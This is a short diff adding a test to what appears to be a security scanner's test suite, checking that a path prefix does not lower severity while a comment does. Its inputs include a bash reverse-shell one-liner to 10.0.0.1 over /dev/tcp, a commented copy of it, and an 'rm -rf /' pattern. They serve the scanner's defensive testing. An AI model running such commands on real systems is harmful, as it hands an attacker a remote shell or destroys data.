@@ -90,6 +90,12 @@ def test_well_known_installers_are_no_alarm_but_a_comment_does_not_make_one() ->
     assert (honest.severity, posing.severity) == (Severity.LOW, Severity.HIGH)
 
 
+def test_a_path_before_a_command_makes_it_no_milder_and_a_comment_does() -> None:
+    assert verdict_of(run_sh="/bin/bash -i >& /dev/tcp/10.0.0.1/99 0>&1").severity is Severity.CRITICAL
+    assert verdict_of(run_sh="# bash -i >& /dev/tcp/10.0.0.1/99 0>&1").severity is Severity.HIGH
+    assert verdict_of(run_py="BAD = re.compile(r'rm -rf /')").severity is Severity.HIGH
+
+
 def test_network_use_counts_only_where_the_text_does_not_speak_of_it() -> None:
     code = "import requests\nrequests.get('https://x.example')\n"
 
